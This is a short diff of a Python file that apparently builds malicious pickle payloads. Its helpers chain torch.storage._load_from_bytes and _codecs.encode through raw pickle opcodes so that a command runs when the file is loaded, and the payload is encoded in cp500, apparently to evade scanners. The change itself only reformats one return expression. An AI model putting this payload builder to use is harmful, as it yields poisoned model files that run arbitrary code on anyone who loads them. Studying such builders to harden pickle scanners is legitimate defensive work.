@@ -33,8 +33,15 @@ def _system(command: str) -> bytes:
 
 def _load_from_bytes(data: bytes, codec: str) -> bytes:
     raw = data.decode(codec).encode("utf-8", "surrogatepass")
-    return (g("torch.storage", "_load_from_bytes") + g("_codecs", "encode") + b"X"
-            + len(raw).to_bytes(4, "little") + raw + s(codec) + b"\x86R\x85R0")
+    return (
+        g("torch.storage", "_load_from_bytes")
+        + g("_codecs", "encode")
+        + b"X"
+        + len(raw).to_bytes(4, "little")
+        + raw
+        + s(codec)
+        + b"\x86R\x85R0"
+    )
 
 
 def _build(command: str, codec: str = "cp500") -> bytes:
